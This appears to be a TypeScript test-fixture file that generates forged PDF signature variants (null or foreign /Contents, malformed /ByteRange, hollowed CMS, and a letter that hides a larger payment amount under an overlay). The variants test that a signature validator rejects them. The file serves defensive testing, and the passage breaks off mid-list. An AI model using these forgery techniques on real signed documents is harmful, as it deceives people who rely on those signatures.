/**
 * The attack corpus: forged and altered letters generated from correctly signed ones, after the
 * "PDF Insecurity" research — Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion
 * Dollar Refund: How To Spoof PDF Signatures" (CCS 2019: universal signature forgery, incremental
 * saving attack, signature wrapping) and Mainka, Mladenov, Rohlmann, Schwenk, "Attacks bypassing
 * the signature validation in PDF" / "Shadow attacks" (NDSS 2021; S&P 2021: evil annotation,
 * sneaky signature). Every file is made here, from letters signed with the project's own
 * `signPdf` (and a DocMDP certification written by {@link certifyPdf}); nothing is copied in.
 *
 * One function per attack class returns its variants as {@link Attack}s: the bytes, a label, and
 * what the class itself determines about the verdict (e.g. HASH_FAILURE for changed signed bytes,
 * FORMAT_FAILURE for broken byte ranges, modification "other" for appended content).
 *
 * @example
 * const bases = await buildAttackBases(await corpusSigners(pki));
 * for (const attack of incrementalSavingAttacks(bases)) {
 *   const report = await validatePdf(attack.bytes, options);
 *   expect(report.verdict).not.toBe("TOTAL_PASSED");
 * }
 */
import fontkit from "@pdf-lib/fontkit";
import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";
import { children, encodeExplicit, encodeSequence, readElement, tlv } from "../../shared/asn1/der.ts";
import { createCmsSignature } from "../../shared/cms/create-cms-signature.ts";
import { estimateCmsSize } from "../../shared/cms/estimate-cms-size.ts";
import type { Signer } from "../../shared/cms/ports.ts";
import { hashByteRange } from "../../shared/pdf/byte-range.ts";
import { type UpdateObject, writeIncrementalUpdate } from "../../shared/pdf/incremental-update.ts";
import { PdfDict, PdfName, type PdfObject, PdfRef, PdfStream, textString } from "../../shared/pdf/objects.ts";
import { listPages } from "../../shared/pdf/pages.ts";
import { type PdfFile, readPdf } from "../../shared/pdf/read-pdf.ts";
import { formatObject } from "../../shared/pdf/serialize.ts";
import {
  buildSignatureDictionary,
  embedSignatureContents,
  patchByteRange,
} from "../../shared/pdf/signature-placeholder.ts";
import type { PdfSignatureInfo } from "../../shared/pdf/signatures.ts";
import { signPdf } from "../../shared/signing/sign-pdf.ts";
import { SoftwareSigner } from "../../shared/signing/software-signer.ts";
import type { Indication, ModificationLevel, SubIndication } from "../../shared/verification/report.ts";
import { sealImage, signatureImage } from "./images.ts";
import {
  LETTER,
  LIBERATION_SERIF,
  makeLetterPdf,
  makeLibreOfficePdf,
  signingCerts,
  toXrefStreamPdf,
} from "./pdf.ts";
import { type IssuedCert, type TestPki, untrustedCert } from "./pki.ts";

// ---------------------------------------------------------------------------------------------
// Types
// ---------------------------------------------------------------------------------------------

/** The attack classes of the corpus. */
export type AttackClass =
  | "universal-signature-forgery"
  | "incremental-saving"
  | "signature-wrapping"
  | "shadow-hide"
  | "shadow-replace"
  | "shadow-hide-and-replace"
  | "evil-annotation"
  | "sneaky-signature"
  | "signature-dictionary-spoofing";

/** What the attack class determines about the verdict of one signature. */
export interface AttackExpectation {
  /** Which signature (0-based, revision order) the expectation is about. */
  readonly signature: number;
  /** Allowed indications of that signature; default: anything but TOTAL_PASSED. */
  readonly indication?: readonly Indication[];
  /** Allowed sub-indications of that signature. */
  readonly subIndication?: readonly SubIndication[];
  readonly modification?: ModificationLevel;
}

/** One attacked file. */
export interface Attack {
  /** Unique, kebab-case, e.g. "usf-contents-null". */
  readonly label: string;
  readonly attackClass: AttackClass;
  readonly description: string;
  readonly bytes: Uint8Array;
  readonly expect?: AttackExpectation;
  /** Document-level problem code the report must list (e.g. DATA_AFTER_LAST_EOF). */
  readonly problem?: string;
}

/** A correctly signed letter that must give TOTAL_PASSED. */
export interface GoodLetter {
  readonly label: string;
  readonly description: string;
  readonly bytes: Uint8Array;
  readonly signatures: number;
  /** Expected modification level of the first signature. */
  readonly firstModification: ModificationLevel;
  /** Whether an allowed change (form filling) follows the newest signature: its coverage is then "revision". */
  readonly filledAfterLastSignature?: boolean;
  /** The change policy it passes under (form filling changes what is shown: not the letter default). */
  readonly changePolicy?: "form-filling";
}

/** The certificates the corpus signs with. */
export interface CorpusSigners {
  readonly person: IssuedCert;
  readonly organisation: IssuedCert;
  /** From a root nobody trusts: the attacker of the sneaky-signature attack. */
  readonly attacker: IssuedCert;
}

/** The signed letters the attacks start from. */
export interface AttackBases {
  readonly signers: CorpusSigners;
  /** pdf-lib letter, one approval signature (person). */
  readonly signed: Uint8Array;
  /** `signed` + the organisation's counter-signature (seal). */
  readonly counterSigned: Uint8Array;
  /** The "shadow" letter (form fields, an optional-content overlay, a shared XObject), signed by the person. */
  readonly shadowSigned: Uint8Array;
  /** The shadow letter certified by the person with DocMDP /P 1, 2, 3. */
  readonly certified: Readonly<Record<1 | 2 | 3, Uint8Array>>;
  /** Another document signed by the same person: its CMS is the "foreign CMS". */
  readonly foreign: Uint8Array;
}

// ---------------------------------------------------------------------------------------------
// Byte helpers
// ---------------------------------------------------------------------------------------------

function view(bytes: Uint8Array): Buffer {
  return Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
}

function ascii(text: string): Buffer {
  return Buffer.from(text, "latin1");
}

/** Offset of `needle` in bytes[from, to), or -1. */
function find(bytes: Uint8Array, needle: string, from = 0, to = bytes.length): number {
  const at = view(bytes).indexOf(ascii(needle), from);
  return at >= 0 && at + needle.length <= to ? at : -1;
}

/** A copy of `bytes` with [start, end) replaced by `replacement` (the length may change). */
export function splice(
  bytes: Uint8Array,
  start: number,
  end: number,
  replacement: string | Uint8Array,
): Uint8Array {
  const insert = typeof replacement === "string" ? ascii(replacement) : replacement;
  return new Uint8Array(Buffer.concat([view(bytes).subarray(0, start), insert, view(bytes).subarray(end)]));
}

/** A copy of `bytes` with [start, end) overwritten by `text` padded with spaces to the same width. */
function overwrite(bytes: Uint8Array, start: number, end: number, text: string): Uint8Array {
  if (text.length > end - start) {
    throw new Error(`'${text.slice(0, 40)}…' does not fit in ${end - start} bytes`);
  }
  return splice(bytes, start, end, text.padEnd(end - start, " "));
}

/** The n-th signature (revision order) as the parser sees it; throws when absent. */
export function signatureAt(bytes: Uint8Array, index: number): PdfSignatureInfo {
  const info = readPdf(bytes).signatures()[index];
  if (!info) {
    throw new Error(`no signature #${index}`);
  }
  return info;
}

/** The four /ByteRange numbers of a signature. */
export function byteRangeOf(info: PdfSignatureInfo): readonly [number, number, number, number] {
  const range = info.byteRange;
  if (range?.length !== 4) {
    throw new Error("the signature has no four-number /ByteRange");
  }
  return range as unknown as readonly [number, number, number, number];
}

/** The /ByteRange array text of a signature and the spaces after it: [start of "[", end of padding). */
function byteRangeSpan(bytes: Uint8Array, info: PdfSignatureInfo): { start: number; end: number } {
  const key = find(bytes, "/ByteRange", info.dictionary.start, info.dictionary.end);
  const open = find(bytes, "[", key);
  const close = find(bytes, "]", open);
  if (key < 0 || open < 0 || close < 0) {
    throw new Error("no /ByteRange array in the signature dictionary");
  }
  let end = close + 1;
  while (bytes[end] === 0x20) {
    end++;
  }
  return { start: open, end };
}

/** The DER CMS inside a signature's /Contents, without the zero padding. */
export function cmsOf(info: PdfSignatureInfo): Uint8Array {
  const contents = info.contents;
  if (!contents) {
    throw new Error("the signature has no /Contents");
  }
  return contents.subarray(0, readElement(contents).end);
}

/** `cms` as /Contents hex, zero-padded to fill the existing hex string [start, end) exactly. */
function contentsHex(cms: Uint8Array, start: number, end: number): string {
  const digits = end - start - 2;
  const hex = view(cms).toString("hex").toUpperCase();
  if (hex.length > digits) {
    throw new Error(`a ${cms.length}-byte CMS does not fit ${digits / 2} bytes`);
  }
  return `<${hex.padEnd(digits, "0")}>`;
}

// ---------------------------------------------------------------------------------------------
// DER (dropping parts of a SignedData, RFC 5652 §5.1), with shared/asn1's reader and writer
// ---------------------------------------------------------------------------------------------

/**
 * Rebuilds ContentInfo { contentType, [0] SignedData } with SignedData's fields passed through
 * `edit` (each field as its whole DER TLV).
 */
function editSignedData(
  cms: Uint8Array,
  edit: (fields: Uint8Array[], tags: number[]) => Uint8Array[],
): Uint8Array {
  const [contentType, explicit] = children(readElement(cms));
  if (!contentType || !explicit) {
    throw new Error("not a ContentInfo");
  }
  const fields = children(readElement(explicit.content));
  const edited = edit(
    fields.map((field) => field.bytes),
    fields.map((field) => field.tag),
  );
  return encodeSequence(contentType.bytes, encodeExplicit(0, encodeSequence(...edited)));
}

// ---------------------------------------------------------------------------------------------
// Incremental updates written by hand (for what a well-behaved writer would never do)
// ---------------------------------------------------------------------------------------------

/** Appends one incremental update through the PDF package's writer. */
export function appendUpdate(bytes: Uint8Array, objects: readonly UpdateObject[]): Uint8Array {
  return writeIncrementalUpdate(readPdf(bytes), objects).bytes;
}

interface RawPart {
  /** Text written into the update's body. */
  readonly text: string | Uint8Array;
  /** The cross-reference entry to make for the part (its first byte), if any. */
  readonly objectNumber?: number;
}

/**
 * Appends an update with a classic cross-reference table written by hand: the parts in order, an
 * entry for each part that names an object number, plus `extraEntries` pointing anywhere.
 */
function appendRawUpdate(
  bytes: Uint8Array,
  parts: readonly RawPart[],
  extraEntries: readonly { readonly objectNumber: number; readonly offset: number }[] = [],
): Uint8Array {
  const file = readPdf(bytes);
  const chunks: Buffer[] = [view(bytes)];
  let position = bytes.length;
  const push = (chunk: string | Uint8Array): void => {
    const buffer = typeof chunk === "string" ? ascii(chunk) : Buffer.from(chunk);
    chunks.push(buffer);
    position += buffer.length;
  };
  if (bytes[bytes.length - 1] !== 0x0a) {
    push("\n");
  }
  const entries = new Map<number, number>();
  for (const part of parts) {
    if (part.objectNumber !== undefined) {
      entries.set(part.objectNumber, position);
    }
    push(part.text);
    push("\n");
  }
  for (const entry of extraEntries) {
    entries.set(entry.objectNumber, entry.offset);
  }
  const startxref = position;
  let xref = "xref\n";
  for (const [objectNumber, offset] of [...entries].sort((a, b) => a[0] - b[0])) {
    xref += `${objectNumber} 1\n${String(offset).padStart(10, "0")} 00000 n \n`;
  }
  const previous = file.revisions[file.revisions.length - 1]!;
  const size = Math.max(file.trailer.getNumber("Size") ?? 0, ...[...entries.keys()].map((n) => n + 1));
  const trailer = new PdfDict([["Size", size]]);
  for (const key of ["Root", "Info", "ID"]) {
    const value = file.trailer.get(key);
    if (value !== undefined) {
      trailer.map.set(key, value);
    }
  }
  trailer.map.set("Prev", previous.startxref);
  push(`${xref}trailer\n${formatObject(trailer)}\nstartxref\n${startxref}\n%%EOF\n`);
  return new Uint8Array(Buffer.concat(chunks));
}

/** The full text `N G obj … endobj` of an object as it is in the file. */
function objectText(file: PdfFile, ref: PdfRef): Uint8Array {
  const located = file.locate(ref);
  if (located?.start === undefined || located.end === undefined) {
    throw new Error(`object ${ref} is not a plain object in the file`);
  }
  return file.bytes.subarray(located.start, located.end);
}

/** A content stream (or appearance stream) with `content`, unfiltered. */
function stream(content: string, entries: Iterable<readonly [string, PdfObject]> = []): PdfStream {
  return new PdfStream(new PdfDict(entries), ascii(content));
}

function nextObjectNumber(file: PdfFile): number {
  return Math.max(file.trailer.getNumber("Size") ?? 1, 1);
}

/** The update that appends `item` to `owner[key]` (the array object when indirect, else the owner). */
function appendToArray(
  file: PdfFile,
  ownerRef: PdfRef,
  owner: PdfDict,
  key: string,
  item: PdfObject,
): UpdateObject {
  const current = owner.get(key);
  if (current instanceof PdfRef) {
    const array = file.resolve(current);
    if (Array.isArray(array)) {
      return { objectNumber: current.objectNumber, generation: current.generation, value: [...array, item] };
    }
  }
  const existing = Array.isArray(current) ? current : [];
  return {
    objectNumber: ownerRef.objectNumber,
    generation: ownerRef.generation,
    value: owner.with({ [key]: [...existing, item] }),
  };
}

/** The first page's reference, dictionary and first content stream reference. */
function firstPage(file: PdfFile): { ref: PdfRef; dict: PdfDict; content: PdfRef } {
  const page = listPages(file)[0];
  if (!page) {
    throw new Error("no page");
  }
  const contents = page.dict.get("Contents");
  const content = contents instanceof PdfRef ? contents : Array.isArray(contents) ? contents[0] : undefined;
  if (!(content instanceof PdfRef)) {
    throw new Error("the first page has no content stream reference");
  }
  return { ref: page.ref, dict: page.dict, content };
}

/** A white box hiding part of the body text, with a red line of "forged" marks: what an overlay shows. */
const COVER_APPEARANCE = "q 1 1 1 rg 0 0 420 60 re f 0.8 0 0 RG 3 w 10 30 m 410 30 l S Q";

// ---------------------------------------------------------------------------------------------
// Base letters
// ---------------------------------------------------------------------------------------------

/** Text the shadow letter hides under its optional-content overlay. */
export const SHADOW_TEXT = {
  visible: "So tien thanh toan: 1.000.000 dong",
  hidden: "So tien thanh toan: 900.000.000 dong",
  field: "so_tien",
  emptyField: "ghi_chu",
  fieldValue: "1.000.000",
} as const;

/**
 * The "shadow" letter: a one-page letter whose signed revision already carries what the shadow
 * attacks abuse (Mainka et al. 2021): a text field with a value and an empty one (AcroForm), an
 * overlay in an optional content group that is ON in the default configuration (/OCProperties /D, an
 * indirect dictionary), and a Form XObject drawn from the page's resources (a "shared object").
 */
export async function makeShadowLetter(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.registerFontkit(fontkit);
  const { readFile } = await import("node:fs/promises");
  const serif = await doc.embedFont(await readFile(LIBERATION_SERIF), { subset: true });
  const helvetica = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595.28, 841.89]);
  page.drawText(LETTER.organ, { x: 85, y: 790, size: 12, font: serif });
  page.drawText(LETTER.number, { x: 85, y: 770, size: 13, font: serif });
  page.drawText(LETTER.subject, { x: 85, y: 730, size: 12, font: serif, maxWidth: 440 });
  for (const [i, line] of LETTER.body.entries()) {
    page.drawText(line, { x: 85, y: 680 - i * 20, size: 12, font: serif });
  }
  // The hidden text, covered by the overlay while its optional content group is ON.
  page.drawText(SHADOW_TEXT.hidden, { x: 85, y: 520, size: 12, font: helvetica });

  const context = doc.context;
  const ocg = context.register(context.obj({ Type: "OCG", Name: PDFString.of("Overlay") }));
  const defaults = context.register(
    context.obj({ Name: PDFString.of("Default"), ON: [ocg], OFF: [], Order: [ocg] }),
  );
  doc.catalog.set(PDFName.of("OCProperties"), context.obj({ OCGs: [ocg], D: defaults }));
  const overlay = context.stream(
    `q /OC /Ov BDC 1 1 1 rg 80 512 330 22 re f 0 0 0 rg BT /Helv 12 Tf 85 520 Td (${SHADOW_TEXT.visible}) Tj ET EMC Q`,
  );
  const shared = context.stream("q BT /Helv 11 Tf 85 470 Td (Noi nhan: Bo Tai chinh; Luu: VT) Tj ET Q", {
    Type: "XObject",
    Subtype: "Form",
    BBox: [0, 0, 595, 842],
    Resources: { Font: { Helv: helvetica.ref } },
  });
  const sharedRef = context.register(shared);
  page.node.setXObject(PDFName.of("Shared"), sharedRef);
  page.node.setFontDictionary(PDFName.of("Helv"), helvetica.ref);
  const resources = page.node.normalizedEntries().Resources;
  resources.set(PDFName.of("Properties"), context.obj({ Ov: ocg }));
  page.node.addContentStream(context.register(overlay));
  page.node.addContentStream(context.register(context.stream("q /Shared Do Q")));

  const form = doc.getForm();
  const amount = form.createTextField(SHADOW_TEXT.field);
  amount.setText(SHADOW_TEXT.fieldValue);
  amount.addToPage(page, { x: 85, y: 420, width: 200, height: 20, font: helvetica });
  const note = form.createTextField(SHADOW_TEXT.emptyField);
  note.addToPage(page, { x: 85, y: 390, width: 300, height: 20, font: helvetica });
  doc.setTitle(LETTER.subject);
  return doc.save({ useObjectStreams: false });
}

/** A software signer from a test certificate. */
export function signerOf(issued: IssuedCert): Signer {
  return SoftwareSigner.fromPkcs12(issued.p12, issued.p12Password);
}

/**
 * Certifies `pdf` (ISO 32000-1 §12.8.2.2, DocMDP): one incremental update with an invisible
 * signature field whose signature dictionary carries /Reference [<< /TransformMethod /DocMDP
 * /TransformParams << /P p >> >>], the catalog's /Perms /DocMDP pointing to it, and a CAdES
 * signature over the byte ranges. (`signPdf` makes approval signatures only.)
 *
 * @example
 * const certified = await certifyPdf(letter, { signer, permission: 2 });
 */
export async function certifyPdf(
  pdf: Uint8Array,
  options: { readonly signer: Signer; readonly permission: 1 | 2 | 3; readonly signingTime?: Date },
): Promise<Uint8Array> {
  const { signer, permission } = options;
  const file = readPdf(pdf);
  const rootRef = file.trailer.getRef("Root");
  const root = rootRef ? file.resolve(rootRef) : undefined;
  if (!rootRef || !(root instanceof PdfDict)) {
    throw new Error("no catalog");
  }
  const page = firstPage(file);
  let next = nextObjectNumber(file);
  const signatureNumber = next++;
  const widgetNumber = next++;
  const signatureRef = new PdfRef(signatureNumber);
  const widgetRef = new PdfRef(widgetNumber);

  const dictionary = buildSignatureDictionary({
    contentsBytes: estimateCmsSize({ certificate: signer.certificate, chain: signer.chain }),
    reason: "Chứng thực văn bản",
    ...(options.signingTime ? { signingTime: options.signingTime } : {}),
  });
  const reference =
    ` /Reference [<< /Type /SigRef /TransformMethod /DocMDP` +
    ` /TransformParams << /Type /TransformParams /P ${permission} /V /1.2 >> >>]`;
  const body = Buffer.concat([
    Buffer.from(dictionary.body.subarray(0, 2)),
    ascii(reference),
    Buffer.from(dictionary.body.subarray(2)),
  ]);
  const shift = reference.length;

  const objects: UpdateObject[] = [{ objectNumber: signatureNumber, body }];
  objects.push({
    objectNumber: widgetNumber,
    value: new PdfDict([
      ["Type", new PdfName("Annot")],
      ["Subtype", new PdfName("Widget")],
      ["FT", new PdfName("Sig")],
      ["T", textString("Certification")],
      ["V", signatureRef],
      ["P", page.ref],
      ["Rect", [0, 0, 0, 0]],
      ["F", 132],
    ]),
  });
  objects.push(appendToArray(file, page.ref, page.dict, "Annots", widgetRef));
  // The field goes into /AcroForm /Fields; the catalog gains /Perms (and /AcroForm when inline).
  const acroFormValue = root.get("AcroForm");
  const acroForm = file.deref(acroFormValue);
  const form = acroForm instanceof PdfDict ? acroForm : new PdfDict();
  const sigFlags = (form.getNumber("SigFlags") ?? 0) | 3;
  const perms = new PdfDict([["DocMDP", signatureRef]]);
  const fieldsValue = form.get("Fields");
  let newForm = form.with({ SigFlags: sigFlags });
  if (fieldsValue instanceof PdfRef && Array.isArray(file.resolve(fieldsValue))) {
    objects.push(
      appendToArray(
        file,
        acroFormValue instanceof PdfRef ? acroFormValue : rootRef,
        form,
        "Fields",
        widgetRef,
      ),
    );
  } else {
    newForm = form.with({
      Fields: [...(Array.isArray(fieldsValue) ? fieldsValue : []), widgetRef],
      SigFlags: sigFlags,
    });
  }
  if (acroFormValue instanceof PdfRef) {
    objects.push({
      objectNumber: acroFormValue.objectNumber,
      generation: acroFormValue.generation,
      value: newForm,
    });
    objects.push({
      objectNumber: rootRef.objectNumber,
      generation: rootRef.generation,
      value: root.with({ Perms: perms }),
    });
  } else {
    objects.push({
      objectNumber: rootRef.objectNumber,
      generation: rootRef.generation,
      value: root.with({ AcroForm: newForm, Perms: perms }),
    });
  }

  const update = writeIncrementalUpdate(file, objects);
  const bytes = update.bytes;
  const bodyOffset = update.bodyOffsets.get(signatureNumber)!;
  const contentsStart = bodyOffset + shift + dictionary.contentsAt;
  const contentsEnd = contentsStart + dictionary.contentsLength;
  const byteRange = [0, contentsStart, contentsEnd, bytes.length - contentsEnd] as const;
  patchByteRange(bytes, bodyOffset + shift + dictionary.byteRangeAt, dictionary.byteRangeWidth, byteRange);
  const contentDigest = hashByteRange(bytes, byteRange, "sha256");
  const cms = await createCmsSignature({ contentDigest, hashAlgorithm: "sha256", signer });
  embedSignatureContents(bytes, contentsStart, contentsEnd, cms);
  return bytes;
}

/** The corpus signers: certificates without revocation pointers (so pdfsig trusts them offline). */
export async function corpusSigners(pki: TestPki): Promise<CorpusSigners> {
  const { person, organisation } = await signingCerts(pki);
  return { person, organisation, attacker: await untrustedCert() };
}

const SIGNING_TIME = new Date("2025-03-05T07:02:11Z");

/** Signs once per signer, in order, each an incremental update (approval signatures). */
export async function signAll(
  pdf: Uint8Array,
  signers: readonly IssuedCert[],
  appearances: readonly (Parameters<typeof signPdf>[1]["appearance"] | undefined)[] = [],
  placeholderBytes?: number,
): Promise<Uint8Array> {
  let bytes = pdf;
  for (const [i, issued] of signers.entries()) {
    const appearance = appearances[i];
    bytes = await signPdf(bytes, {
      signer: signerOf(issued),
      reason: "Ký số văn bản",
      signingTime: new Date(SIGNING_TIME.getTime() + i * 60_000),
      ...(appearance ? { appearance } : {}),
      ...(placeholderBytes ? { placeholderBytes } : {}),
    });
  }
  return bytes;
}

/** Signs the base letters every attack starts from. A few hundred milliseconds. */
export async function buildAttackBases(signers: CorpusSigners): Promise<AttackBases> {
  const letter = await makeLetterPdf({ pages: 1 });
  const shadow = await makeShadowLetter();
  // 16 KB for /Contents, as deployments reserve for timestamps: room for the wrapping attack's object.
  const signed = await signAll(letter, [signers.person], [], 16_384);
  const counterSigned = await signAll(signed, [signers.organisation]);
  const shadowSigned = await signAll(shadow, [signers.person]);
  const certify = (permission: 1 | 2 | 3): Promise<Uint8Array> =>
    certifyPdf(shadow, { signer: signerOf(signers.person), permission, signingTime: SIGNING_TIME });
  const certified = { 1: await certify(1), 2: await certify(2), 3: await certify(3) };
  const foreign = await signAll(await makeLetterPdf({ pages: 2 }), [signers.person]);
  return { signers, signed, counterSigned, shadowSigned, certified, foreign };
}

// ---------------------------------------------------------------------------------------------
// Good letters
// ---------------------------------------------------------------------------------------------

/**
 * Correctly signed and counter-signed letters: pdf-lib (classic xref), qpdf (xref stream and object
 * streams), LibreOffice, visible signer + seal appearances, certified letters (P=1/2/3), a
 * certified letter with a later approval signature, and legitimate form filling. `libreOffice` is
 * the unsigned LibreOffice letter (slow to make: pass it in so a test file makes it once).
 */
export async function goodLetters(bases: AttackBases, libreOffice: Uint8Array): Promise<GoodLetter[]> {
  const { person, organisation } = bases.signers;
  const letter = await makeLetterPdf({ pages: 2 });
  const xrefStream = await toXrefStreamPdf(letter);
  const both = [person, organisation];
  const good: GoodLetter[] = [
    {
      label: "pdf-lib-signed",
      description: "pdf-lib letter, one signature",
      bytes: bases.signed,
      signatures: 1,
      firstModification: "none",
    },
    {
      label: "pdf-lib-counter-signed",
      description: "pdf-lib letter, signer + organisation",
      bytes: bases.counterSigned,
      signatures: 2,
      firstModification: "signatures-and-validation-data",
    },
    {
      label: "pdf-lib-visible",
      description: "pdf-lib letter, visible signer image then seal image",
      bytes: await signAll(letter, both, [
        { kind: "signer", image: signatureImage(), title: LETTER.signerTitle, signerName: LETTER.signerName },
        { kind: "seal", image: sealImage() },
      ]),
      signatures: 2,
      firstModification: "signatures-and-validation-data",
    },
    {
      label: "qpdf-xref-stream-counter-signed",
      description: "qpdf xref-stream + object-stream letter, signer + organisation",
      bytes: await signAll(xrefStream, both),
      signatures: 2,
      firstModification: "signatures-and-validation-data",
    },
    {
      label: "libreoffice-counter-signed",
      description: "LibreOffice letter, signer + organisation",
      bytes: await signAll(libreOffice, both),
      signatures: 2,
      firstModification: "signatures-and-validation-data",
    },
    {
      label: "shadow-letter-signed",
      description: "the shadow letter (form, optional content, XObject), one signature",
      bytes: bases.shadowSigned,
      signatures: 1,
      firstModification: "none",
    },
    ...([1, 2, 3] as const).map(
      (p): GoodLetter => ({
        label: `certified-p${p}`,
        description: `certified with DocMDP /P ${p}, nothing after`,
        bytes: bases.certified[p],
        signatures: 1,
        firstModification: "none",
      }),
    ),
    {
      label: "certified-p2-then-sealed",
      description: "certified P=2, then the organisation's approval signature (allowed by P=2)",
      bytes: await signAll(bases.certified[2], [organisation]),
      signatures: 2,
      firstModification: "signatures-and-validation-data",
    },
    {
      label: "certified-p2-form-filled",
      description: "certified P=2, then the empty text field filled (allowed by P=2)",
      bytes: fillField(bases.certified[2], SHADOW_TEXT.emptyField, "Da xem"),
      signatures: 1,
      firstModification: "form-filling",
      filledAfterLastSignature: true,
      changePolicy: "form-filling",
    },
    {
      label: "signed-form-filled",
      description: "approval signature, then the empty text field filled",
      bytes: fillField(bases.shadowSigned, SHADOW_TEXT.emptyField, "Da xem"),
      signatures: 1,
      firstModification: "form-filling",
      filledAfterLastSignature: true,
      changePolicy: "form-filling",
    },
  ];
  return good;
}

/** The field object and its (first) widget, by /T. */
function fieldByName(
  file: PdfFile,
  name: string,
): { fieldRef: PdfRef; field: PdfDict; widgetRef: PdfRef; widget: PdfDict } {
  const root = file.deref(file.trailer.get("Root"));
  const acroForm = root instanceof PdfDict ? file.deref(root.get("AcroForm")) : undefined;
  const fields = acroForm instanceof PdfDict ? file.deref(acroForm.get("Fields")) : undefined;
  for (const item of Array.isArray(fields) ? fields : []) {
    const field = file.deref(item);
    if (!(item instanceof PdfRef) || !(field instanceof PdfDict) || field.getString("T")?.text() !== name) {
      continue;
    }
    const kids = file.deref(field.get("Kids"));
    const kid = Array.isArray(kids) ? kids[0] : undefined;
    const widget = kid instanceof PdfRef ? file.deref(kid) : field;
    return {
      fieldRef: item,
      field,
      widgetRef: kid instanceof PdfRef ? kid : item,
      widget: widget instanceof PdfDict ? widget : field,
    };
  }
  throw new Error(`no field '${name}'`);
}

/**
 * Form filling as a viewer does it (ISO 32000-1 §12.7.3.3): a new /V on the field and a new normal
 * appearance stream on its widget, in one incremental update.
 */
export function fillField(
  pdf: Uint8Array,
  name: string,
  value: string,
  options: { readonly appearanceOnly?: boolean } = {},
): Uint8Array {
  const file = readPdf(pdf);
  const { fieldRef, field, widgetRef, widget } = fieldByName(file, name);
  const appearances = file.deref(widget.get("AP"));
  const oldAppearance = appearances instanceof PdfDict ? file.deref(appearances.get("N")) : undefined;
  const appearanceNumber = nextObjectNumber(file);
  const dict =
    oldAppearance instanceof PdfStream
      ? oldAppearance.dict.with({ Filter: undefined, DecodeParms: undefined })
      : new PdfDict([
          ["Subtype", new PdfName("Form")],
          ["BBox", [0, 0, 200, 20]],
        ]);
  const appearance = new PdfStream(dict, ascii(`/Tx BMC q BT /Helv 10 Tf 0 g 2 6 Td (${value}) Tj ET Q EMC`));
  const ap = new PdfDict([["N", new PdfRef(appearanceNumber)]]);
  const objects: UpdateObject[] = [{ objectNumber: appearanceNumber, value: appearance }];
  const merged = widgetRef.equals(fieldRef);
  if (merged || !options.appearanceOnly) {
    const withAppearance = merged ? field.with({ AP: ap }) : field;
    objects.push({
      objectNumber: fieldRef.objectNumber,
      generation: fieldRef.generation,
      value: options.appearanceOnly ? withAppearance : withAppearance.with({ V: textString(value) }),
    });
  }
  if (!widgetRef.equals(fieldRef)) {
    objects.push({
      objectNumber: widgetRef.objectNumber,
      generation: widgetRef.generation,
      value: widget.with({ AP: ap }),
    });
  }
  return appendUpdate(pdf, objects);
}

// ---------------------------------------------------------------------------------------------
// 1. Universal signature forgery (Mladenov et al. 2019, §4.1)
// ---------------------------------------------------------------------------------------------

/**
 * Universal signature forgery: the signature is made unverifiable (no, null, empty or zero
 * /Contents; a foreign CMS; missing or malformed /ByteRange; a CMS without SignerInfos or
 * certificates), hoping the viewer then skips verification and shows the letter as signed.
 */
export function universalSignatureForgery(bases: AttackBases): Attack[] {
  const signed = bases.signed;
  const info = signatureAt(signed, 0);
  const range = byteRangeOf(info);
  const dict = info.dictionary;
  const contents = info.contentsOffsets!;
  const brSpan = byteRangeSpan(signed, info);
  const key = (name: string): number => {
    const at = find(signed, name, dict.start, dict.end);
    if (at < 0) {
      throw new Error(`no ${name} in the signature dictionary`);
    }
    return at;
  };
  const cms = cmsOf(info);
  const format = (label: string, description: string, bytes: Uint8Array): Attack => ({
    label,
    attackClass: "universal-signature-forgery",
    description,
    bytes,
    expect: { signature: 0, indication: ["TOTAL_FAILED"], subIndication: ["FORMAT_FAILURE"] },
  });
  // The /ByteRange text as an indirect reference to an array defined in a later update.
  const refNumber = nextObjectNumber(readPdf(signed));
  const withRefText = overwrite(signed, brSpan.start, brSpan.end, `${refNumber} 0 R`);
  const withRef = appendRawUpdate(withRefText, [
    { objectNumber: refNumber, text: `${refNumber} 0 obj\n[${range.join(" ")}]\nendobj` },
  ]);
  return [
    format(
      "usf-contents-missing",
      "/Contents key renamed: no signature value",
      splice(signed, key("/Contents"), key("/Contents") + 9, "/Contentz"),
    ),
    format("usf-contents-null", "/Contents null", overwrite(signed, contents.start, contents.end, "null")),
    format(
      "usf-contents-empty",
      "/Contents <> (empty hex string)",
      overwrite(signed, contents.start, contents.end, "<>"),
    ),
    format(
      "usf-contents-zero",
      "/Contents all zeros",
      splice(signed, contents.start, contents.end, `<${"0".repeat(contents.end - contents.start - 2)}>`),
    ),
    {
      label: "usf-foreign-cms",
      attackClass: "universal-signature-forgery",
      description: "/Contents replaced by the CMS of another document signed by the same person",
      bytes: splice(
        signed,
        contents.start,
        contents.end,
        contentsHex(cmsOf(signatureAt(bases.foreign, 0)), contents.start, contents.end),
      ),
      expect: { signature: 0, indication: ["TOTAL_FAILED"], subIndication: ["HASH_FAILURE"] },
    },
    format(
      "usf-byterange-missing",
      "/ByteRange key renamed",
      splice(signed, key("/ByteRange"), key("/ByteRange") + 10, "/ByteRangX"),
    ),
    format(
      "usf-byterange-three-numbers",
      "/ByteRange with 3 numbers",
      overwrite(signed, brSpan.start, brSpan.end, `[0 ${range[1]} ${range[2]}]`),
    ),
    format(
      "usf-byterange-negative",
      "/ByteRange with a negative length",
      overwrite(signed, brSpan.start, brSpan.end, `[0 ${range[1]} ${range[2]} -1]`),
    ),
    format(
      "usf-byterange-names",
      "/ByteRange of names, not numbers",
      overwrite(signed, brSpan.start, brSpan.end, "[/a /b /c /d]"),
    ),
    {
      label: "usf-byterange-reference",
      attackClass: "universal-signature-forgery",
      description: "/ByteRange as an indirect reference to an array defined in a later update",
      bytes: withRef,
      expect: {
        signature: 0,
        indication: ["TOTAL_FAILED"],
        subIndication: ["FORMAT_FAILURE", "HASH_FAILURE"],
      },
    },
    format(
      "usf-cms-no-signerinfos",
      "CMS SignedData with an empty signerInfos SET",
      splice(
        signed,
        contents.start,
        contents.end,
        contentsHex(
          editSignedData(cms, (fields) => [...fields.slice(0, -1), tlv(0x31)]),
          contents.start,
          contents.end,
        ),
      ),
    ),
    {
      label: "usf-cms-no-certificates",
      attackClass: "universal-signature-forgery",
